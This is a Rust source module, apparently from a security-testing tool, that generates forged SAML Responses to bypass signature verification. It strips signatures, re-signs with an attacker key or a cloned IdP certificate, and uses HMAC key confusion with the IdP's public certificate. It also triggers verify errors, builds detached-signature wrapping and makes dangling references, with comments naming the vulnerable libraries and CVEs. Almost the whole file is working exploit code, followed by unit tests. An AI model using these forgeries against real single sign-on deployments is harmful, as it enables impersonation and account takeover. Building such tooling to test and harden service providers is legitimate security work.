//! Signature presence and key trust: no signature, the attacker's own key in every KeyInfo
//! shape, a cloned certificate, a tampered or degenerate signature.

use base64::Engine;
use openssl::hash::MessageDigest;
use saml_protocol::key_text::KeyText;
use saml_protocol::{ASSERTION_NS, DSIG_NS, PROTOCOL_NS};

use crate::bytes::{after_start_tag, attr_value, before_end_tag, splice, Doc};
use crate::crypto;
use crate::family::{forge_document, forged, strip_signatures, Parts};
use crate::forge::{Forge, Forged, Skip};

/// Every Signature removed; identity forged.
pub fn none(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let (whole, swap) = forge_document(&doc);
    forged(strip_signatures(&whole)?, swap)
}

/// Every Signature removed, identity forged, written again with the `saml2p:` and `saml2:`
/// prefixes Shibboleth IdP and Okta use (Entra writes none): the same document to a
/// namespace-aware reader, and the bytes an application's regex fallback looks for.
pub fn none_saml2_prefixed(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let (whole, swap) = forge_document(&doc);
    forged(with_saml2_prefixes(&strip_signatures(&whole)?)?, swap)
}

/// The prefixes [`with_saml2_prefixes`] writes, by namespace.
const SAML2_PREFIXES: [(&str, &str); 3] = [
    (PROTOCOL_NS, "saml2p"),
    (ASSERTION_NS, "saml2"),
    (DSIG_NS, "ds"),
];

/// `xml` written again element by element: SAML and XML-DSig elements with the
/// [`SAML2_PREFIXES`], every other prefix declared once on the root (a value such as
/// `xsi:type="xs:string"` may name one), other elements in their own namespace.
fn with_saml2_prefixes(xml: &str) -> Result<String, Skip> {
    let doc = Doc::parse_built(xml)?;
    let mut declared: Vec<(&str, &str)> = SAML2_PREFIXES.iter().map(|(u, p)| (*p, *u)).collect();
    for ns in doc.tree.descendants().flat_map(|n| n.namespaces()) {
        let Some(prefix) = ns.name().filter(|p| *p != "xml") else {
            continue;
        };
        match declared.iter().find(|(p, _)| *p == prefix) {
            Some((_, uri)) if *uri == ns.uri() => {}
            Some(_) => {
                return Err(Skip::NotApplicable(format!(
                    "the seed binds the prefix {prefix:?} to another namespace"
                )))
            }
            None => declared.push((prefix, ns.uri())),
        }
    }
    let declarations: String = declared
        .iter()
        .map(|(p, u)| format!(" xmlns:{p}=\"{}\"", quick_xml::escape::escape(*u)))
        .collect();
    let mut out = String::with_capacity(xml.len() + 1024);
    write_prefixed(doc.root(), &declared, &declarations, "", &mut out);
    Ok(out)
}

/// Writes `node` for [`with_saml2_prefixes`]; `default` is the default namespace in scope.
fn write_prefixed(
    node: roxmltree::Node,
    declared: &[(&str, &str)],
    root_declarations: &str,
    default: &str,
    out: &mut String,
) {
    use quick_xml::escape::escape;
    let prefix_of = |uri: &str| declared.iter().find(|(_, u)| *u == uri).map(|(p, _)| *p);
    let tag = node.tag_name();
    let uri = tag.namespace().unwrap_or_default();
    let (name, own_default) = match prefix_of(uri) {
        Some(p) => (format!("{p}:{}", tag.name()), default),
        None => (tag.name().to_owned(), uri),
    };
    out.push('<');
    out.push_str(&name);
    out.push_str(root_declarations);
    if own_default != default {
        out.push_str(&format!(" xmlns=\"{}\"", escape(own_default)));
    }
    for a in node.attributes() {
        let qualified = match a.namespace() {
            Some("http://www.w3.org/XML/1998/namespace") => format!("xml:{}", a.name()),
            // Every prefixed namespace in the seed is declared, so each has its prefix.
            Some(ns) => {
                prefix_of(ns).map_or_else(|| a.name().to_owned(), |p| format!("{p}:{}", a.name()))
            }
            None => a.name().to_owned(),
        };
        out.push_str(&format!(" {qualified}=\"{}\"", escape(a.value())));
    }
    out.push('>');
    for child in node.children() {
        match child.node_type() {
            roxmltree::NodeType::Element => write_prefixed(child, declared, "", own_default, out),
            roxmltree::NodeType::Text => out.push_str(&escape(child.text().unwrap_or_default())),
            roxmltree::NodeType::Comment => {
                out.push_str(&format!("<!--{}-->", child.text().unwrap_or_default()))
            }
            roxmltree::NodeType::PI => {
                if let Some(pi) = child.pi() {
                    out.push_str(&format!(
                        "<?{} {}?>",
                        pi.target,
                        pi.value.unwrap_or_default()
                    ))
                }
            }
            roxmltree::NodeType::Root => {}
        }
    }
    out.push_str(&format!("</{name}>"));
}

fn resigned(f: &Forge, key_info: Option<String>) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let (whole, swap) = forge_document(&doc);
    let xml = crypto::resign(&whole, crypto::attacker_key()?, key_info.as_deref())?;
    forged(xml, swap)
}

/// Re-signed with the attacker's key; its self-signed certificate in KeyInfo.
pub fn keyinfo_x509(f: &Forge) -> Result<Forged, Skip> {
    resigned(
        f,
        Some(crypto::key_info_x509(&crypto::attacker_cert(None)?)?),
    )
}

/// Re-signed with the attacker's key; the bare key in KeyInfo/KeyValue/RSAKeyValue.
pub fn keyinfo_key_value(f: &Forge) -> Result<Forged, Skip> {
    resigned(f, Some(crypto::key_info_rsa_value()?))
}

/// Re-signed with the attacker's key; no KeyInfo at all.
pub fn keyinfo_none(f: &Forge) -> Result<Forged, Skip> {
    resigned(f, None)
}

/// Re-signed with the attacker's key in a certificate copying the IdP's subject, issuer,
/// serial and validity.
pub fn cloned_cert(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let idp = crypto::seed_certificate(&doc)?;
    resigned(
        f,
        Some(crypto::key_info_x509(&crypto::attacker_cert(Some(&idp))?)?),
    )
}

/// The Assertion's signature removed and the Response re-signed by the IdP (Entra's "Sign
/// SAML response" option), for an SP whose metadata asks for signed assertions.
pub fn assertion_unsigned(f: &Forge) -> Result<Forged, Skip> {
    if !f.sp.wants_assertions_signed {
        return Err(Skip::NotApplicable(
            "the SP's metadata does not ask for signed assertions (WantAssertionsSigned), so a signed Response is enough (SAML Profiles §4.1.3.5)".into(),
        ));
    }
    let key = f.idp_key()?;
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    p.need_response_sig()?;
    let signature = p.need_assertion_sig()?;
    let xml = splice(doc.src, vec![(signature.range(), String::new())]);
    Ok(Forged::same_identity(crypto::idp_resign(&xml, key)?))
}

/// Identity changed after signing; signatures untouched (digest no longer matches).
pub fn tampered(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let (whole, swap) = forge_document(&doc);
    forged(whole, swap)
}

fn emptied(f: &Forge, element: &str) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let (whole, swap) = forge_document(&doc);
    let doc = Doc::parse_built(&whole)?;
    let edits: Vec<_> = doc
        .tree
        .descendants()
        .filter(|n| n.has_tag_name((DSIG_NS, element)))
        .map(|n| {
            let (open, close) = (
                crate::bytes::after_start_tag(&whole, n),
                crate::bytes::before_end_tag(&whole, n),
            );
            (open..close.max(open), String::new())
        })
        .collect();
    if edits.is_empty() {
        return Err(Skip::NotApplicable(format!("the seed has no {element}")));
    }
    forged(splice(&whole, edits), swap)
}

/// Identity forged and every SignatureValue emptied.
pub fn empty_signature_value(f: &Forge) -> Result<Forged, Skip> {
    emptied(f, "SignatureValue")
}

/// Identity forged and every DigestValue emptied.
pub fn empty_digest_value(f: &Forge) -> Result<Forged, Skip> {
    emptied(f, "DigestValue")
}

/// Computes a SignatureValue from the document and the IdP's certificate.
type SignatureValueOf<'a> = dyn Fn(&str, &openssl::x509::X509) -> Result<Vec<u8>, Skip> + 'a;

/// The Assertion forged, its SignatureMethod set to `uri`, KeyInfo dropped (unless
/// `keep_key_info`: an SP that picks its key by the certificate there needs the IdP's) and
/// DigestValue recomputed (the Response's signature removed): everything but SignatureValue,
/// which `value` computes from the document and the IdP's certificate.
fn with_method(
    f: &Forge,
    uri: &str,
    keep_key_info: bool,
    value: &SignatureValueOf<'_>,
) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let cert = crypto::seed_certificate(&doc)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let id = p.assertion_id().to_owned();
    let (mut edits, swap) =
        crate::identity::rewrite_edits(&doc, p.assertion.range(), &crate::identity::forger(&doc));
    if let Some(r) = p.response_sig {
        edits.push((r.range(), String::new()));
    }
    let method = sig
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "SignatureMethod")))
        .and_then(|m| attr_value(m, "Algorithm"))
        .ok_or_else(|| Skip::NotApplicable("the signature has no SignatureMethod".into()))?;
    edits.push((method, uri.to_owned()));
    if let Some(k) = crate::bytes::child(sig, DSIG_NS, "KeyInfo").filter(|_| !keep_key_info) {
        edits.push((k.range(), String::new()));
    }
    let xml = splice(doc.src, edits);
    let digest_method = crypto::seed_digest_method(sig);
    let xml = set_text(
        &xml,
        "DigestValue",
        &crypto::reference_digest(&xml, &id, digest_method)?,
    )?;
    let encoded = base64::engine::general_purpose::STANDARD.encode(value(&xml, &cert)?);
    forged(set_text(&xml, "SignatureValue", &encoded)?, swap)
}

/// The Assertion forged and "signed" with HMAC, the secret being the IdP's public
/// certificate (xml-crypto < 2.0.0, GHSA-c27r-x354-4m68; CVE-2018-7644 family). KeyInfo keeps
/// the IdP's certificate only for the key an SP builds from it ([`KeyText::SpkiPemCrlf`]).
fn hmac_signed(f: &Forge, uri: &str, digest: MessageDigest, form: KeyText) -> Result<Forged, Skip> {
    let keep_key_info = matches!(form, KeyText::SpkiPemCrlf);
    with_method(f, uri, keep_key_info, &|xml, cert| {
        let key = form
            .of(cert)
            .map_err(|e| Skip::NotApplicable(e.to_string()))?;
        crypto::hmac(digest, &key, crypto::signed_info_c14n(xml, 0)?.as_bytes())
    })
}

/// The Assertion forged under a SignatureMethod whose key type is not the IdP's (RSA), with
/// a meaningless SignatureValue of that method's length: verifying it is an error, not a
/// mismatch (PHP's `openssl_verify` returns -1, which SimpleSAMLphp read as true).
fn verify_error(f: &Forge, uri: &str, length: usize) -> Result<Forged, Skip> {
    with_method(f, uri, false, &|_, cert| {
        let key = cert
            .public_key()
            .map_err(|e| Skip::NotApplicable(e.to_string()))?;
        if key.rsa().is_err() {
            return Err(Skip::NotApplicable(
                "the IdP key is not RSA, so this method would not be a key-type mismatch".into(),
            ));
        }
        Ok(vec![0x5a; length])
    })
}

/// `dsa-sha1` against the IdP's RSA key (SimpleSAMLphp 201612-01).
pub fn verify_error_dsa(f: &Forge) -> Result<Forged, Skip> {
    verify_error(f, "http://www.w3.org/2000/09/xmldsig#dsa-sha1", 40)
}

/// `ecdsa-sha256` against the IdP's RSA key.
pub fn verify_error_ecdsa(f: &Forge) -> Result<Forged, Skip> {
    verify_error(f, "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256", 64)
}

/// Replaces the text of the first `ds:{element}`.
fn set_text(xml: &str, element: &str, text: &str) -> Result<String, Skip> {
    let doc = Doc::parse_built(xml)?;
    let n = doc
        .tree
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, element)))
        .ok_or_else(|| Skip::NotApplicable(format!("no {element}")))?;
    let open = after_start_tag(xml, n);
    Ok(splice(
        xml,
        vec![(open..before_end_tag(xml, n).max(open), text.to_owned())],
    ))
}

const HMAC_SHA1: &str = "http://www.w3.org/2000/09/xmldsig#hmac-sha1";
const HMAC_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";

/// HMAC-SHA1 keyed with the certificate's PEM text.
pub fn hmac_sha1(f: &Forge) -> Result<Forged, Skip> {
    hmac_signed(f, HMAC_SHA1, MessageDigest::sha1(), KeyText::Pem)
}

/// HMAC-SHA256 keyed with the certificate's PEM text.
pub fn hmac_sha256(f: &Forge) -> Result<Forged, Skip> {
    hmac_signed(f, HMAC_SHA256, MessageDigest::sha256(), KeyText::Pem)
}

/// HMAC-SHA384 keyed with the certificate's PEM text.
pub fn hmac_sha384(f: &Forge) -> Result<Forged, Skip> {
    hmac_signed(
        f,
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha384",
        MessageDigest::sha384(),
        KeyText::Pem,
    )
}

/// HMAC-SHA512 keyed with the certificate's PEM text.
pub fn hmac_sha512(f: &Forge) -> Result<Forged, Skip> {
    hmac_signed(
        f,
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha512",
        MessageDigest::sha512(),
        KeyText::Pem,
    )
}

/// HMAC-SHA1 keyed with the certificate's PEM text without its final newline (saml2-js <
/// 2.1.0 on xml-crypto 0.10).
pub fn hmac_pem_no_newline(f: &Forge) -> Result<Forged, Skip> {
    hmac_signed(f, HMAC_SHA1, MessageDigest::sha1(), KeyText::PemNoNewline)
}

/// HMAC-SHA1 keyed with the IdP's public key as SPKI PEM with CRLF line ends, the
/// certificate kept in KeyInfo (samlify < 2.4.0 on xml-crypto 0.10).
pub fn hmac_spki_pem_crlf(f: &Forge) -> Result<Forged, Skip> {
    hmac_signed(f, HMAC_SHA1, MessageDigest::sha1(), KeyText::SpkiPemCrlf)
}

/// HMAC-SHA256 keyed with the certificate's DER bytes.
pub fn hmac_der(f: &Forge) -> Result<Forged, Skip> {
    hmac_signed(f, HMAC_SHA256, MessageDigest::sha256(), KeyText::Der)
}

/// HMAC-SHA256 keyed with the certificate's one-line base64.
pub fn hmac_base64(f: &Forge) -> Result<Forged, Skip> {
    hmac_signed(f, HMAC_SHA256, MessageDigest::sha256(), KeyText::Base64)
}

/// The Assertion's Signature moved to the Response (a detached signature still pointing at
/// `#a1`, the original unsigned inside its ds:Object); the Assertion forged, unsigned, new ID
/// (pysaml2 CVE-2020-5390: signatures not checked to be enveloped).
pub fn detached(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let object = format!(
        "<ds:Object xmlns:ds=\"{DSIG_NS}\">{}</ds:Object>",
        p.assertion_unsigned()
    );
    let raw = p.movable_signature(sig)?;
    let at = before_end_tag(doc.src, sig) - sig.range().start;
    let moved = format!("{}{object}{}", &raw[..at], &raw[at..]);
    let (evil, swap) = p.forged_assertion_with_id(&crate::family::evil_id(p.assertion_id()))?;
    let edits = vec![
        (p.assertion.range(), evil),
        crate::bytes::insert(p.after_response_header(), moved),
    ];
    forged(p.splice_unsigned_response(edits), swap)
}

/// The Assertion forged in place under a new ID, its Signature kept, and a copy of that
/// Signature after the Response's Issuer: two Signatures whose References name an ID no
/// element carries any more. XML::Sig 0.33-0.71 skips such a Signature when there is another,
/// and returns true when it has skipped them all (CVE-2026-18568).
pub fn dangling_references(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let copy = p.movable_signature(sig)?;
    let (mut edits, swap) =
        crate::identity::rewrite_edits(&doc, p.assertion.range(), &crate::identity::forger(&doc));
    let id = attr_value(p.assertion, "ID")
        .ok_or_else(|| Skip::NotApplicable("the Assertion has no ID".into()))?;
    let signed = p.assertion_id();
    if doc
        .tree
        .descendants()
        .any(|n| n != p.assertion && n.attribute("ID") == Some(signed))
    {
        return Err(Skip::NotApplicable(format!(
            "another element carries the Assertion's ID {signed:?}, so the Reference would resolve"
        )));
    }
    edits.push((id, crate::family::evil_id(signed)));
    edits.push(crate::bytes::insert(p.after_response_header(), copy));
    forged(p.splice_unsigned_response(edits), swap)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every element's and attribute's expanded name, and every text, in document order.
    fn names(xml: &str) -> Vec<String> {
        let doc = roxmltree::Document::parse(xml).unwrap();
        let name = |ns: Option<&str>, local: &str| format!("{{{}}}{local}", ns.unwrap_or(""));
        doc.descendants()
            .flat_map(|n| {
                let mut out = Vec::new();
                if n.is_element() {
                    out.push(name(n.tag_name().namespace(), n.tag_name().name()));
                    for a in n.attributes() {
                        out.push(format!("@{}={}", name(a.namespace(), a.name()), a.value()));
                    }
                } else if let Some(t) = n.text() {
                    out.push(format!("{:?}:{t}", n.node_type()));
                }
                out
            })
            .collect()
    }

    const SIGNED: &str = r##"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r"><Issuer xmlns="urn:oasis:names:tc:SAML:2.0:assertion">https://sts.windows.net/t/</Issuer><Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a"><Issuer>https://sts.windows.net/t/</Issuer><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI="#_a"/></SignedInfo></Signature><Subject><NameID>b.simon@contoso.com</NameID></Subject></Assertion></samlp:Response>"##;

    #[test]
    fn dangling_references_leave_no_element_with_the_signed_id() {
        let forged = dangling_references(&Forge::bare(SIGNED)).unwrap();
        let doc = roxmltree::Document::parse(&forged.xml).unwrap();
        assert!(!doc.descendants().any(|n| n.attribute("ID") == Some("_a")));
        let references: Vec<_> = doc
            .descendants()
            .filter(|n| n.has_tag_name((DSIG_NS, "Reference")))
            .map(|n| n.attribute("URI").unwrap_or_default())
            .collect();
        assert_eq!(references, ["#_a", "#_a"], "{}", forged.xml);
        assert!(!forged.swap.forged.is_empty());
        // A seed where another element carries the ID would let the Reference resolve.
        let shadowed = SIGNED.replace("ID=\"_r\"", "ID=\"_a\"");
        assert!(matches!(
            dangling_references(&Forge::bare(&shadowed)),
            Err(Skip::NotApplicable(_))
        ));
    }

    #[test]
    fn saml2_prefixes_keep_every_name_value_and_prefix_a_value_names() {
        let seed = r#"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="r" a="x &amp; &lt;y&gt; &quot;z&quot;"><Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><!-- a comment --><?pi data?><AttributeValue xsi:type="xs:string" xml:lang="en">a &amp; b</AttributeValue><Other xmlns="urn:other"><Bare xmlns="">t</Bare></Other></Assertion></samlp:Response>"#;
        let out = with_saml2_prefixes(seed).unwrap();
        assert_eq!(names(&out), names(seed), "{out}");
        assert!(out.starts_with("<saml2p:Response"), "{out}");
        assert!(out.contains("<saml2:AttributeValue"), "{out}");
        // The QName in xsi:type still resolves.
        let doc = roxmltree::Document::parse(&out).unwrap();
        let value = doc
            .descendants()
            .find(|n| n.has_tag_name((ASSERTION_NS, "AttributeValue")))
            .unwrap();
        assert_eq!(
            value.lookup_namespace_uri(Some("xs")),
            Some("http://www.w3.org/2001/XMLSchema")
        );
    }
}
